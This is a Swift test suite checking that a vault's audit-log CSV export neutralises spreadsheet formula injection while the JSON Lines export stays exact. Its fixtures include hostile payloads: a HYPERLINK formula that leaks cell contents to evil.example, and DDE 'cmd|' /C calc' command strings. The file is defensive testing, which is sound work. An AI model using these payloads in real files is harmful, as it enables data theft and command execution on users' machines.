import Foundation
import TestSupport
import Testing
import VaultCrypto
@testable import VaultCore

/// The spreadsheet export of the audit log (design: Audit log) runs nothing in a spreadsheet,
/// and the verifiable JSON Lines export stays exact.
@Suite("Audit CSV: no formula injection")
struct AuditCSVTests {
    @Test("a cell a spreadsheet would run gets a single quote; plain numbers and other text are unchanged", arguments: [
        ("=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""),
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"), ("\r=1", "\"'\r=1\""), ("-", "'-"), ("-.5", "'-.5"), ("-5.", "'-5."), ("+", "'+"), ("--1", "'--1"),
        ("-12", "-12"), ("-0.25", "-0.25"), ("+3", "+3"), ("81.5", "81.5"), ("0", "0"),
        ("a=b", "a=b"), ("round/=x", "round/=x"), ("", ""), (" padded", "\" padded\""), ("a,b", "\"a,b\""),
    ])
    func field(_ input: String, _ expected: String) {
        #expect(CSV.field(input) == expected)
    }

    @Test("policy explain --action '=HYPERLINK(…)', unauthenticated: neutralised in the CSV, exact in the JSONL, which still verifies (Swift and Python)")
    func injection() throws {
        let f = try AuditFixture()
        let payloads = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "\t=1"]
        for p in payloads {
            let e = #expect(throws: VaultError.self) { try f.vault.explain(actor: PrincipalID("chair"), action: p, round: nil, resource: [:], context: [:]) }
            #expect(e?.exitStatus == .usage)
        }
        let actor = try f.chair()
        let prepared = try f.vault.prepareAuditExport(actor: actor, format: .csv)
        var csv: [UInt8] = []
        try f.vault.writeAuditExport(format: .csv, checkpoint: prepared.checkpoint, chairKey: actor.chairKey) { csv += $0 }
        let records = try CSVReader.parse(csv, file: "audit.csv")
        let header = try #require(records.first).fields
        let target = try #require(header.firstIndex(of: "target"))
        // Every payload is there, as text: a single quote before it.
        let targets = records.dropFirst().map { $0.fields[target] }
        for p in payloads { #expect(targets.contains("'" + p), "\(p) in \(targets)") }
        // No cell of the file starts as a formula would.
        for r in records.dropFirst() {
            for cell in r.fields where !cell.isEmpty {
                #expect(!["=", "+", "-", "@", "\t", "\r"].contains(String(cell.prefix(1))) || CSV.isPlainNumber(cell), "cell \(cell)")
            }
        }
        // The JSON Lines export holds each payload exactly, and verifies in both verifiers.
        let jsonl = try f.export()
        for p in payloads {
            #expect(jsonl.contains(bytes: CanonicalJSON.encode(.string(p))), "\(p) exactly in the JSONL")
            #expect(!jsonl.contains(bytes: CanonicalJSON.encode(.string("'" + p))))
        }
        let summary = try f.verify(jsonl)
        let py = try f.pythonVerify(jsonl)
        #expect(py.status == 0 && py.stdout == "ok \(summary.size) \(Base64.encode(summary.root))\n", "python: \(py.stdout) \(py.stderr)")
    }
}
